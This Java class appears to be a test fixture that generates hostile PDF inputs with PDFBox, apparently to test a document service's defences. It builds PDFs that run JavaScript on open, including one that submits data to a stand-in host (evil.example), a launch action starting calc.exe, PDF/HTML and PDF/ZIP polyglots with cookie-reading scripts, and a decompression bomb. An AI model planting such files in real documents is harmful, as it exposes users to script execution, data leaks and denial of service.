package io.podesk.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;

/** Malicious and malformed files and texts, made on the spot. */
public final class HostileInputs {

  private HostileInputs() {}

  /** A one-page PDF that runs JavaScript as soon as it is opened. */
  public static byte[] pdfWithOpenActionJavaScript() {
    return pdf(document -> document.getDocumentCatalog()
        .setOpenAction(new PDActionJavaScript("app.alert('pwned'); this.submitForm('https://evil.example/')")));
  }

  /** A one-page PDF carrying document-level JavaScript in its Names tree (runs on open in Acrobat). */
  public static byte[] pdfWithDocumentJavaScript() {
    return pdf(document -> {
      var scripts = new PDJavascriptNameTreeNode();
      scripts.setNames(java.util.Map.of("init", new PDActionJavaScript("app.alert(1)")));
      var names = new PDDocumentNameDictionary(document.getDocumentCatalog());
      names.setJavascript(scripts);
      document.getDocumentCatalog().setNames(names);
    });
  }

  /** A one-page PDF with a link whose action is JavaScript. */
  public static byte[] pdfWithJavaScriptLink() {
    return pdf(document -> {
      var link = new PDAnnotationLink();
      link.setRectangle(new PDRectangle(10, 10, 100, 20));
      link.setAction(new PDActionJavaScript("app.launchURL('https://evil.example/')"));
      try {
        document.getPage(0).getAnnotations().add(link);
      } catch (IOException e) {
        throw new UncheckedIOException(e);
      }
    });
  }

  /** A one-page PDF that launches a program when opened. */
  public static byte[] pdfWithLaunchAction() {
    return pdf(document -> {
      var launch = new PDActionLaunch();
      launch.setFile(new org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification(
          new org.apache.pdfbox.cos.COSString("C:\\Windows\\System32\\calc.exe")));
      document.getDocumentCatalog().setOpenAction(launch);
    });
  }

  /** Encrypted with an owner password only: it opens without a password, but its content is encrypted. */
  public static byte[] encryptedPdfWithoutUserPassword() {
    return pdf(document -> protect(document, ""));
  }

  /** Encrypted with a password needed to open it. */
  public static byte[] passwordProtectedPdf() {
    return pdf(document -> protect(document, "secret"));
  }

  /** A PDF header and then an HTML page: a browser sniffing it would run the script. */
  public static byte[] pdfHeaderOnHtml() {
    return ("%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>\n")
        .getBytes(StandardCharsets.US_ASCII);
  }

  /** An HTML page with a PDF inside it. */
  public static byte[] htmlWithPdfInside() {
    byte[] html = "<html><script>alert(1)</script><!--".getBytes(StandardCharsets.US_ASCII);
    return concat(html, onePage(), "-->".getBytes(StandardCharsets.US_ASCII));
  }

  /** A PDF header and then a ZIP archive. */
  public static byte[] pdfHeaderOnZip() {
    return concat("%PDF-1.4\n".getBytes(StandardCharsets.US_ASCII), zip());
  }

  /** A real, valid PDF with a ZIP archive appended after its end: a PDF/ZIP polyglot. */
  public static byte[] pdfWithZipAppended() {
    return concat(onePage(), zip());
  }

  /** A real, valid PDF with an HTML page appended after its end. */
  public static byte[] pdfWithHtmlAppended() {
    return concat(onePage(), ("\n<html><script>alert(document.cookie)</script></html>\n".repeat(40))
        .getBytes(StandardCharsets.US_ASCII));
  }

  /** Starts like a PDF, then is padded to the given size: too big to be read at all. */
  public static byte[] oversizedPdf(int megabytes) {
    byte[] start = onePage();
    byte[] content = new byte[megabytes * 1024 * 1024];
    System.arraycopy(start, 0, content, 0, start.length);
    return content;
  }

  /** One page whose content stream is {@code megabytes} of zeros, FlateDecode: a few hundred KB on disk. */
  public static byte[] pdfWithZipBomb(int megabytes) {
    return pdf(document -> {
      var stream = document.getDocument().createCOSStream();
      try (var out = stream.createOutputStream(org.apache.pdfbox.cos.COSName.FLATE_DECODE)) {
        byte[] zeros = new byte[1024 * 1024];
        for (int i = 0; i < megabytes; i++) {
          out.write(zeros);
        }
      } catch (IOException e) {
        throw new UncheckedIOException(e);
      }
      document.getPage(0).setContents(new org.apache.pdfbox.pdmodel.common.PDStream(stream));
    });
  }

  /** {@code pages} blank pages; with {@code claimedPages} the page tree says it holds that many instead. */
  public static byte[] pdfWithPages(int pages, Integer claimedPages) {
    return pdf(document -> {
      for (int i = 1; i < pages; i++) {
        document.addPage(new PDPage());
      }
      if (claimedPages != null) {
        document.getPages().getCOSObject().setInt(org.apache.pdfbox.cos.COSName.COUNT, claimedPages);
      }
    });
  }

  public static byte[] onePage() {
    return pdf(document -> {});
  }

  private static byte[] zip() {
    var bytes = new ByteArrayOutputStream();
    try (var zip = new ZipOutputStream(bytes)) {
      zip.putNextEntry(new ZipEntry("payload.html"));
      zip.write("<script>alert(1)</script>".getBytes(StandardCharsets.US_ASCII));
      zip.closeEntry();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return bytes.toByteArray();
  }

  private static void protect(PDDocument document, String userPassword) {
    var policy = new StandardProtectionPolicy("owner-" + System.nanoTime(), userPassword, new AccessPermission());
    policy.setEncryptionKeyLength(128);
    try {
      document.protect(policy);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static byte[] pdf(java.util.function.Consumer<PDDocument> change) {
    try (var document = new PDDocument(); var out = new ByteArrayOutputStream()) {
      document.addPage(new PDPage());
      change.accept(document);
      document.save(out);
      return out.toByteArray();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  public static byte[] concat(byte[]... parts) {
    var out = new ByteArrayOutputStream();
    for (byte[] part : parts) {
      out.writeBytes(part);
    }
    return out.toByteArray();
  }
}
